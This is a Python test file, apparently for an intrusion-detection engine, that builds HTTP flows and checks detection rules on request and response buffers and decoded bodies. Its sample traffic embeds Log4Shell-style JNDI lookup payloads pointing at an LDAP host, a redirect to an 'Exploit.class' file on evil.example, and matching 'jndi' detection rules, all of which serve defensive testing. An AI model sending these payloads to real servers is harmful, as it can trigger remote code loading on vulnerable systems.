# SPDX-License-Identifier: GPL-2.0-or-later
"""The http.* buffers on ordinary and on odd requests, the older content modifiers, and bodies."""
import gzip
import zlib

from family import Family, answer, chunked, http

UA = b"User-Agent: Mozilla/5.0 (X11; Linux)\r\n"
REQUESTS = {
    "simple": http(headers=UA + b"Accept: */*\r\n"),
    "query": http(uri=b"/search?q=abc&r=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D", headers=UA),
    "encoded": http(uri=b"/%61bc/%2e%2e/d%25%34%31?x=%u0041", headers=UA),
    "dots": http(uri=b"/a/./b/../c//d\\e", headers=UA),
    "absolute": http(uri=b"http://other.example:8080/path?q=1", headers=UA),
    "lower": http(b"get", b"/lower", UA),
    "unknown": http(b"BREW", b"/pot", UA),
    "lookup_ua": http(uri=b"/x", headers=b"User-Agent: ${jndi:ldap://203.0.113.9:1389/a}\r\n"),
    "lookup_header": http(uri=b"/x", headers=UA + b"X-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}\r\n"),
    "cookie": http(uri=b"/c", headers=UA + b"Cookie: id=1; name=abc\r\n"),
    "two_cookies": http(uri=b"/c", headers=b"Cookie: a=1\r\n" + UA + b"Cookie: b=2\r\n"),
    "repeated": http(uri=b"/r", headers=b"X-A: one\r\nX-A: two\r\n" + UA),
    "folded": http(uri=b"/f", headers=b"X-A: one\r\n two\r\n" + UA),
    "spaces": http(uri=b"/s", headers=b"X-A:   padded  \r\nX-B:none\r\nX-C :before\r\n" + UA),
    "no_host": http(uri=b"/n", host=b"", headers=UA),
    "empty_host": http(uri=b"/n", host=b"Host: \r\n", headers=UA),
    "port_host": http(uri=b"/n", host=b"Host: WWW.Example.ORG:8443\r\n", headers=UA),
    "two_hosts": http(uri=b"/n", host=b"Host: a.example\r\nHost: b.example\r\n", headers=UA),
    "bare_lf": http(uri=b"/lf", headers=UA).replace(b"\r\n", b"\n"),
    "http10": http(uri=b"/old", version=b"HTTP/1.0", host=b"", headers=UA),
    "http09": b"GET /older\r\n",
    "long": http(uri=b"/" + b"a" * 3000 + b"?end=xyz", headers=UA),
    "referer": http(uri=b"/i",
          headers=UA + b"Referer: http://ref.example/abc\r\nAccept-Language: en\r\nAccept-Encoding: gzip, br\r\nConnection: keep-alive\r\n"),
    "bad_header": http(uri=b"/b", headers=b"no colon here\r\n: empty name\r\n" + UA),
    "nul": http(uri=b"/z", headers=b"X-A: a\0b\r\n" + UA),
    "form": http(b"POST", b"/form", UA + b"Content-Type: application/x-www-form-urlencoded\r\n", b"a=1&b=abc&c=%24%7Bjndi"),
    "json": http(b"POST", b"/api", UA + b"Content-Type: application/json\r\n", b'{"a": "${jndi:ldap://h/a}"}'),
    "chunked": http(b"POST", b"/chunk", UA + b"Transfer-Encoding: chunked\r\n", chunked(b"abc${jn", b"di:ldap", b"://h/a}")),
    "options": http(b"OPTIONS", b"*", UA),
}
HEADS = ('http.method', 'http.uri', 'http.uri.raw', 'http.header', 'flow:to_server; http.header.raw', 'http.cookie',
      'http.user_agent', 'http.host', 'http.host.raw', 'http.request_line', 'http.protocol', 'http.request_body',
      'http.referer',
         'http.accept', 'http.accept_lang', 'http.accept_enc', 'http.connection', 'http.content_type', 'http.content_len',
         'http.header_names', 'http.start', 'http.request_header')

f = Family("http_request", "alert http any any -> any any", dport=80)
for name, data in REQUESTS.items():
    f.flow(name, data, ("s", answer()))
for head in HEADS:
    f.ask('%s; bsize:>0;' % head, '%s; bsize:0;' % head, '%s; content:"abc"; nocase;' % head, '%s; content:"jndi";' % head,
          '%s; content:!"jndi";' % head, '%s; bsize:>12;' % head, '%s; bsize:<5;' % head)
f.ask('http.method; content:"GET"; bsize:3;', 'http.method; content:"get";', 'http.method; content:"GET"; nocase;',
      'http.method; content:"BREW";', 'http.uri; content:"/"; bsize:1;', 'http.uri; content:"${jndi:ldap://"; nocase;',
      'http.uri.raw; content:"%24%7B";', 'http.uri; content:"%24%7B";', 'http.uri; content:"/abc/"; startswith;',
      'http.uri; content:"/d%41";', 'http.uri; content:"/dA";', 'http.uri; content:"..";', 'http.uri.raw; content:"%2e%2e";',
      'http.uri; content:"//d";', 'http.uri; content:"/a/c";', 'http.uri; content:"\\\\";',
      'http.uri; content:"other.example";', 'http.uri.raw; content:"other.example";', 'http.uri; content:"/path"; startswith;',
      'http.host; content:"other.example";', 'http.host; content:"www.example.org"; bsize:15;',
      'http.host.raw; content:"WWW.Example.ORG";', 'http.host; content:"8443";', 'http.host.raw; content:"8443";',
      'http.host; content:"a.example";', 'http.host; content:"b.example";',
      'http.header; content:"Host: shop.example|0d 0a|";', 'http.header; content:"Host|3a 20|shop"; startswith;',
      'http.header; content:"|0d 0a|"; endswith;', 'http.header; content:"|0d 0a 0d 0a|";',
      'flow:to_server; http.header.raw; content:"|0d 0a 0d 0a|";',
      'flow:to_server; http.header.raw; content:"|0d 0a|"; endswith;', 'http.header; content:"X-A: one, two";',
      'http.header; content:"one|0d 0a| two";', 'flow:to_server; http.header.raw; content:"one|0d 0a| two";',
      'http.header; content:"one two";', 'http.header; content:"X-A: padded|0d 0a|";',
      'flow:to_server; http.header.raw; content:"X-A:   padded  |0d 0a|";',
      'http.header; content:"X-B: none";', 'http.header; content:"X-C: before";', 'http.header; content:"X-C : before";',
      'http.header; content:"Cookie";', 'http.header; content:"cookie"; nocase;',
      'http.header; content:"User-Agent: Mozilla";', 'http.cookie; content:"id=1|3b| name=abc"; bsize:14;',
      'http.cookie; content:"a=1";', 'http.cookie; content:"b=2";', 'http.cookie; content:"a=1, b=2";',
      'http.user_agent; content:"${jndi:"; startswith;',
      'http.user_agent; content:"Mozilla/5.0"; startswith; content:"Linux)"; endswith;',
      'http.header; content:"no colon here";', 'flow:to_server; http.header.raw; content:"no colon here";',
      'http.header; content:"a|00|b";',
      'http.header_names; content:"|0d 0a|Host|0d 0a|User-Agent|0d 0a|";',
      'http.header_names; content:"|0d 0a 0d 0a|"; endswith;', 'http.header_names; content:!"Accept";',
      'http.header_names; content:"|0d 0a|Cookie|0d 0a|";', 'http.protocol; content:"HTTP/1.0";',
      'http.protocol; content:"HTTP/1.1"; bsize:8;', 'http.request_line; content:"GET / HTTP/1.1"; bsize:14;',
      'http.request_line; content:"GET /older";', 'http.start; content:"GET / HTTP/1.1|0d 0a|"; startswith;',
      'http.start; content:"|0d 0a 0d 0a|"; endswith;', 'http.content_len; content:"22";',
      'http.content_len; content:"0"; bsize:1;', 'http.content_type; content:"json";',
      'http.connection; content:"keep-alive"; bsize:10;', 'http.accept_enc; content:"gzip, br";',
      'http.referer; content:"abc"; endswith;', 'http.accept; content:"*/*"; bsize:3;', 'http.accept_lang; content:"en";')
f.ask('http.request_body; content:"b=abc";', 'http.request_body; content:"${jndi:ldap";',
      'http.request_body; content:"a=1"; startswith;', 'http.request_body; content:"jndi"; endswith;',
      'http.request_body; content:"abc${jndi";', 'http.request_body; bsize:22;',
      'http.request_body; content:"|22|}"; endswith;', 'file.data; content:"abc"; flow:to_server;',
      'file.data; content:"jndi"; flow:to_server;', 'file_data; content:"b=abc"; flow:to_server;')
f.ask('http.method; content:"GET"; http.uri; content:"/x"; http.header; content:"jndi";',
      'http.method; content:"POST"; http.request_body; content:"jndi";',
      'http.uri; content:"/x"; http.user_agent; content:"jndi";', 'http.uri; content:"/x"; http.uri; content:"x"; endswith;',
      'http.uri; content:"s"; content:"q"; distance:0; http.header; content:"Host";',
      'content:"jndi"; http.method; content:"GET";', 'http.method; content:"GET"; pkt_data; content:"jndi";',
      'content:"GET /x"; content:"jndi";', 'content:"jndi"; nocase;', 'content:!"jndi"; http.method; content:"GET";',
      'http.method; content:"GET"; content:!"POST";')
f.ask('urilen:1;', 'urilen:>100;', 'urilen:<3;', 'urilen:2<>10;', 'urilen:1<>3;', 'urilen:!1;',
      'urilen:2; http.uri; content:"/x";', 'urilen:>40,raw;', 'urilen:>40,norm;', 'urilen:2<>40,raw;', 'urilen:>=2;',
      'urilen:<=2;', 'urilen:>3000;', 'urilen:70000;', 'urilen: 2;')

f = Family("http_modifiers", "alert http any any -> any any", dport=80)
for name in ("simple", "query", "encoded", "lookup_ua", "lookup_header", "cookie", "port_host", "form", "json"):
    f.flow(name, REQUESTS[name], ("s", answer(b"<html>abc</html>", b"Set-Cookie: sid=abc\r\n", b"404 Not Found")))
f.ask('content:"/search"; http_uri;', 'content:"%24"; http_raw_uri;', 'content:"jndi"; http_header;',
      'content:"jndi"; nocase; http_header;', 'content:"jndi"; http_header; nocase;', 'content:"X-Api"; http_raw_header;',
      'content:"id=1"; http_cookie;', 'content:"GET"; http_method;', 'content:"Mozilla"; http_user_agent;',
      'content:"www.example.org"; http_host;', 'content:"WWW"; http_raw_host;', 'content:"b=abc"; http_client_body;',
      'content:"jndi"; http_client_body;', 'content:"abc"; http_server_body;', 'content:"404"; http_stat_code;',
      'content:"Not Found"; http_stat_msg;', 'content:"sid=abc"; http_cookie;',
      'content:!"jndi"; http_header;', 'content:!"jndi"; http_uri; content:"GET"; http_method;',
      'content:"/"; http_uri; content:"jndi"; http_header;', 'content:"search"; http_uri; content:"q="; http_uri; distance:1;',
      'content:"search"; http_uri; content:"q="; distance:1; http_uri;', 'content:"/search"; http_uri; depth:7;',
      'content:"search"; offset:1; depth:6; http_uri;', 'content:"GET"; http_method; content:"jndi";',
      'content:"abc"; http_uri; content:"abc";', 'uricontent:"/search";', 'content:"abc"; fast_pattern:only; http_uri;',
      'content:"GET"; http_method; http_uri;', 'content:"Abc"; http_host;', 'content:"WWW"; http_host;',
      'content:"jndi"; http_bogus;',
      'content:"search"; http_uri; content:"jndi"; distance:0;', 'content:"GET"; content:"/search"; http_uri; within:10;')

f = Family("http_response", "alert http any any -> any any", "flow:to_client;", dport=80)
for name, data in (("ok", answer(b"<html>abc</html>")), ("missing", answer(b"nothing", status=b"404 Not Found")),
      ("moved", answer(b"", b"Location: http://evil.example/Exploit.class\r\n", b"302 Found")),
      ("no_reason", answer(b"abc", status=b"200")), ("cookie", answer(b"x",
      b"Set-Cookie: sid=abc; path=/\r\nSet-Cookie: b=2\r\n")), ("http10", answer(b"abc").replace(b"HTTP/1.1", b"HTTP/1.0")),
                   ("close", b"HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\nabc until the end"),
                   ("bare_lf", answer(b"abc").replace(b"\r\n", b"\n")),
                   ("class", answer(b"\xca\xfe\xba\xbe\x00\x00\x00\x34abc").replace(b"text/html", b"application/java-vm")),
                   ("odd", b"HTTP/9.9 999 Odd Status Here\r\nX: y\r\nContent-Length: 3\r\n\r\nabc"),
                   ("continue", b"HTTP/1.1 100 Continue\r\n\r\n" + answer(b"abc")),
                   ("nothing", answer(b"", status=b"204 No Content")), ("garbage", b"not http at all abc\r\n\r\n")):
    f.flow(name, http(uri=b"/" + name.encode(), headers=UA), ("s", data))
for head in ('http.stat_code', 'http.stat_msg', 'http.response_line', 'http.header', 'http.header.raw', 'http.cookie',
      'http.server', 'http.location', 'http.content_type', 'http.content_len', 'http.response_body', 'file.data', 'file_data',
      'http.protocol', 'http.header_names', 'http.start', 'http.connection', 'http.response_header'):
    f.ask('%s; bsize:>0;' % head, '%s; content:"abc";' % head, '%s; content:!"abc";' % head, '%s; bsize:<4;' % head)
f.ask('http.stat_code; content:"200"; bsize:3;', 'http.stat_code; content:"20"; startswith;',
      'http.stat_msg; content:"Not Found";', 'http.response_line; content:"HTTP/1.1 200 OK"; bsize:15;',
      'http.location; content:"Exploit.class"; endswith;', 'http.header; content:"Location|3a 20|http";',
      'http.header; content:"Set-Cookie";', 'http.cookie; content:"sid=abc|3b| path=/";',
      'http.server; content:"nginx"; startswith;', 'file.data; content:"|ca fe ba be|"; startswith;',
      'file.data; content:"|ca fe ba be|"; depth:4; http.content_type; content:"java";',
      'file.data; content:"</html>"; endswith;', 'file.data; bsize:16;',
      'http.response_body; content:"until the end"; endswith;', 'http.stat_code; content:"200"; file.data; content:"abc";',
      'http.stat_code; content:"100";', 'http.uri; content:"/ok";', 'http.method; content:"GET";',
      'http.user_agent; content:"Mozilla";', 'content:"abc";', 'content:"200 OK"; content:"abc"; distance:0;',
      'http.protocol; content:"HTTP/1.0";', 'http.protocol; content:"HTTP/9.9";')
f.rule('alert http any any -> any any (http.uri; content:"/ok"; http.stat_code; content:"200";)')
f.rule('alert http any any -> any any (http.stat_code; content:"404";)')
f.rule('alert tcp any any -> any any (http.stat_code; content:"404";)')
f.rule('alert tcp any any -> any any (http.method; content:"GET"; http.uri; content:"/moved";)')
f.rule('alert ip any any -> any any (http.uri; content:"/moved";)')
f.rule('alert udp any any -> any any (http.uri; content:"/moved";)')
f.rule('alert dns any any -> any any (http.uri; content:"/moved";)')

f = Family("http_many", "alert http any any -> any any", dport=80)
two = http(uri=b"/one") + http(uri=b"/two") + http(uri=b"/three/one")
f.flow("pipelined", two, ("s", answer(b"1") + answer(b"2") + answer(b"3")))
f.flow("kept", http(uri=b"/one"), ("s", answer(b"1abc")), http(uri=b"/two"), ("s", answer(b"2abc")), http(uri=b"/three/one"),
      ("s", answer(b"3abc")))
f.flow("split", http(uri=b"/one", headers=b"X-A: ${jndi:ldap://h/a}\r\n"), ("s", answer(b"1abc")), cuts=(5, 30, 52, 60))
f.flow("bytes", http(uri=b"/one", headers=b"X-A: b\r\n"), ("s", answer(b"1abc")), cuts=range(1, 60))
f.flow("no_answer", http(uri=b"/one"))
f.flow("open", http(uri=b"/one"), ("s", answer(b"1abc")), ends=False)
f.flow("half", b"GET /one HTTP/1.1\r\nHost: shop.exa", ends=False)
f.flow("half_body", http(b"POST", b"/one", b"Content-Length: 100\r\n", b"abc only"), ("s", answer(b"early")))
f.flow("reset", http(uri=b"/one"), ("rst", "s"), ends=False)
f.flow("no_request", ("s", answer(b"abc")))
f.flow("blank_first", b"\r\n\r\n" + http(uri=b"/one"), ("s", answer(b"1abc")))
f.flow("upgrade", http(uri=b"/one", headers=b"Upgrade: websocket\r\nConnection: Upgrade\r\n"),
      ("s", b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"), b"\x81\x03abc")
f.flow("connect", http(b"CONNECT", b"evil.example:443"), ("s", answer(b"")), http(uri=b"/one"))
f.ask('http.uri; content:"one";', 'http.uri; content:"one"; endswith;', 'http.method; content:"GET";',
      'http.uri; content:!"one";', 'http.host; content:"shop";', 'http.header; content:"X-A";', 'http.header; content:"jndi";',
      'file.data; content:"abc";', 'http.response_body; content:"abc"; endswith;', 'http.request_body; content:"abc";',
      'http.stat_code; content:"200";', 'http.stat_code; content:"101";', 'content:"one";',
      'content:"one"; content:"two"; distance:0;', 'flow:to_server;', 'flow:to_client;',
      'flow:established,to_server; content:"one"; nocase;',
      'flow:established; http.method; content:"GET"; http.uri; content:"/two";',
      'http.uri; content:"one"; threshold:type limit, track by_src, count 1, seconds 60;', 'urilen:4;')

f = Family("bodies", "alert http any any -> any any", "flow:to_client;", dport=80)
BODY = b"<html>\n" + b"filler line of text\n" * 120 + b"needle abc\n" + b"filler line of text\n" * 120 + b"</html>"


def packed(data, kind):
    pack = zlib.compressobj(9, zlib.DEFLATED, {"gzip": 31, "zlib": 15, "raw": -15}[kind])
    return pack.compress(data) + pack.flush()


def encoded(body, coding, extra=b""):
    return answer(body, b"Content-Encoding: " + coding + b"\r\n" + extra)


f.flow("plain", http(), ("s", answer(BODY)))
f.flow("short", http(), ("s", answer(b"needle abc")))
f.flow("chunked", http(), ("s", answer(chunked(BODY[:2400], BODY[2400:2410], BODY[2410:]), b"Transfer-Encoding: chunked\r\n")))
f.flow("chunk_in_needle", http(), ("s", answer(chunked(b"x nee", b"dle abc"), b"Transfer-Encoding: chunked\r\n")))
f.flow("gzip", http(), ("s", encoded(packed(BODY, "gzip"), b"gzip")))
f.flow("x_gzip", http(), ("s", encoded(packed(BODY, "gzip"), b"x-gzip")))
f.flow("gzip_upper", http(), ("s", encoded(packed(BODY, "gzip"), b"GZIP")))
f.flow("deflate_zlib", http(), ("s", encoded(packed(BODY, "zlib"), b"deflate")))
f.flow("deflate_raw", http(), ("s", encoded(packed(BODY, "raw"), b"deflate")))
f.flow("gzip_chunked", http(), ("s", encoded(chunked(packed(BODY, "gzip")[:20], packed(BODY, "gzip")[20:]), b"gzip",
      b"Transfer-Encoding: chunked\r\n")))
f.flow("gzip_twice", http(), ("s", encoded(packed(packed(BODY, "gzip"), "gzip"), b"gzip, gzip")))
f.flow("gzip_unsaid", http(), ("s", answer(packed(BODY, "gzip"))))
f.flow("gzip_false", http(), ("s", encoded(BODY, b"gzip")))
f.flow("gzip_cut", http(), ("s", encoded(packed(BODY, "gzip")[:-30], b"gzip")))
f.flow("identity", http(), ("s", encoded(BODY, b"identity")))
f.flow("big", http(), ("s", answer(b"a" * 50000 + b"needle abc" + b"b" * 20000)))
f.flow("big_gzip", http(), ("s", encoded(packed(b"a" * 50000 + b"needle abc" + b"b" * 20000, "gzip"), b"gzip")))
f.flow("beyond", http(), ("s", answer(b"a" * 120000 + b"needle abc" + b"b" * 2000)))
f.flow("utf16", http(), ("s", answer(b"\xff\xfe" + "needle abc".encode("utf-16-le"))))
f.flow("head", http(b"HEAD"), ("s", b"HTTP/1.1 200 OK\r\nContent-Length: 300\r\n\r\n"), http(), ("s", answer(b"needle abc")))
f.flow("range", http(headers=b"Range: bytes=0-9\r\n"), ("s", answer(b"needle abc", b"Content-Range: bytes 0-9/100\r\n",
      b"206 Partial Content")))
f.flow("slow", http(), ("s", answer(b"")[:-4] + b"\r\n"), ("s", b"x: y\r\n\r\n"), ("s", b""))
f.ask('file.data; content:"needle abc";', 'file_data; content:"needle"; content:"abc"; distance:1; within:3;',
      'http.response_body; content:"needle abc";', 'file.data; content:"needle"; startswith;',
      'file.data; content:"<html>"; startswith; content:"needle"; distance:0;', 'file.data; content:"</html>"; endswith;',
      'file.data; content:"abc"; endswith;', 'file.data; content:"needle"; offset:2400;',
      'file.data; content:"needle"; depth:100;', 'file.data; content:!"needle";',
      'file.data; content:"<html>"; depth:6; content:!"needle";', 'file.data; bsize:10;', 'file.data; bsize:>4000;',
      'file.data; isdataat:4000;', 'file.data; pcre:"/needle\\s+abc/";',
      'content:"needle abc"; http_server_body;', 'pcre:"/needle/Q";', 'content:"needle abc";',
      'file.data; content:"|1f 8b|"; startswith;', 'http.response_body; content:"|1f 8b|"; startswith;',
      'file.data; content:"n|00|e|00|e|00|d";', 'http.header; content:"gzip"; nocase; file.data; content:"needle";',
      'http.stat_code; content:"206"; file.data; content:"needle";',
      'file.data; content:"aaaaaaaaaa"; content:"needle"; distance:0;',
      'file.data; content:"needle"; content:"bbbb"; distance:4; within:4;',
      'file.data; content:"filler"; content:"needle"; within:30;', 'file.data; content:"needle"; isdataat:!5,relative;')
f.rule('alert tcp any any -> any any (flow:to_client; file.data; content:"needle";)')
f.rule('alert tcp any any -> any any (flow:to_client,established; content:"needle";)')

f = Family("request_bodies", "alert http any any -> any any", "flow:to_server;", dport=80)


def post(body, headers=b""):
    return http(b"POST", b"/in", headers, body)


FORM = b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nneedle abc\r\n--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.txt\"\r\nContent-Type: text/plain\r\n\r\nfile needle\r\n--B--\r\n"
f.flow("plain", post(b"needle abc"), ("s", answer()))
f.flow("gzip", post(packed(b"x needle abc", "gzip"),
      b"Content-Encoding: gzip\r\nContent-Length: %d\r\n" % len(packed(b"x needle abc", "gzip"))), ("s", answer()))
f.flow("chunked", post(chunked(b"nee", b"dle abc"), b"Transfer-Encoding: chunked\r\n"), ("s", answer()))
f.flow("multipart", post(FORM, b"Content-Type: multipart/form-data; boundary=B\r\nContent-Length: %d\r\n" % len(FORM)),
      ("s", answer()))
f.flow("long", post(b"a" * 40000 + b"needle abc" + b"b" * 9000), ("s", answer()))
f.flow("pieces", post(b"a" * 3000 + b"needle abc" + b"b" * 1000), ("s", answer()), cuts=(500, 3050, 3065, 3500))
f.flow("put", http(b"PUT", b"/in", b"", b"needle abc"), ("s", answer()))
f.flow("get", http(b"GET", b"/in", b"", b"needle abc"), ("s", answer()))
f.flow("expect", http(b"POST", b"/in", b"Expect: 100-continue\r\nContent-Length: 10\r\n"),
      ("s", b"HTTP/1.1 100 Continue\r\n\r\n"), b"needle abc", ("s", answer()))
f.flow("coded", post(b"q=n%65edle+abc", b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 14\r\n"),
      ("s", answer()))
f.ask('http.request_body; content:"needle";', 'http.request_body; content:"needle"; startswith;',
      'http.request_body; content:"abc"; endswith;', 'http.request_body; content:!"needle";', 'http.request_body; bsize:10;',
      'http.request_body; content:"needle"; offset:2000;', 'http.request_body; content:"needle"; depth:20;',
      'file.data; content:"needle";', 'file.data; content:"file"; startswith;',
      'http.request_body; content:"filename="; content:"needle"; distance:0;', 'content:"needle"; http_client_body;',
      'pcre:"/needle/P";', 'http.request_body; url_decode; content:"needle abc";',
      'http.request_body; content:"aaaa"; content:"needle"; within:6;',
      'http.method; content:"POST"; http.request_body; content:"needle";', 'content:"needle";',
      'http.request_body; pcre:"/^needle/";', 'http.content_len; content:"10";')
